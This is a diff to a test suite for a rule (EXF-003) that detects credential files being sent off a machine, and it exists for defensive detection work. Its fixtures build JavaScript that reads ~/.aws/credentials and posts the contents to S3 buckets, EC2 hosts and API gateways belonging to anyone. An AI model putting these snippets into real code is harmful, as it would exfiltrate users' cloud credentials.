@@ -84,4 +84,34 @@ describe('EXF-003 a credential file leaves the machine', () => {
   ])('passes %s', (_name, source) => {
     expect(hitsOf('EXF-003', js(source))).toEqual([]);
   });
+
+  const sent = (send: string): string =>
+    `const fs = require('fs'), os = require('os'); exports.go = (x) => { const body = fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8'); ${send} };`;
+  it.each([
+    ['a bucket of anybody', "fetch('https://drop.s3.eu-west-1.amazonaws.com/x', { method: 'PUT', body });"],
+    [
+      'a bucket of a name that is not known',
+      'fetch(`https://${x}.s3.amazonaws.com/x`, { method: "PUT", body });',
+    ],
+    [
+      'a machine of anybody',
+      "fetch('https://ec2-1-2-3-4.compute-1.amazonaws.com/', { method: 'POST', body });",
+    ],
+    [
+      'a gateway of anybody',
+      "fetch('https://abc.execute-api.us-east-1.amazonaws.com/p', { method: 'POST', body });",
+    ],
+    [
+      'the issuer and a host that is not known',
+      "fetch(x ? `https://${x}/` : 'https://sts.amazonaws.com/', { method: 'POST', body });",
+    ],
+  ])('finds what is sent to %s below the name of the issuer', (_name, send) => {
+    expect(hitsOf('EXF-003', js(sent(send)))).toEqual(['critical index.js']);
+  });
+
+  it('lets the token service of the issuer have it', () => {
+    expect(
+      hitsOf('EXF-003', js(sent("fetch('https://sts.amazonaws.com/', { method: 'POST', body });"))),
+    ).toEqual([]);
+  });
 });
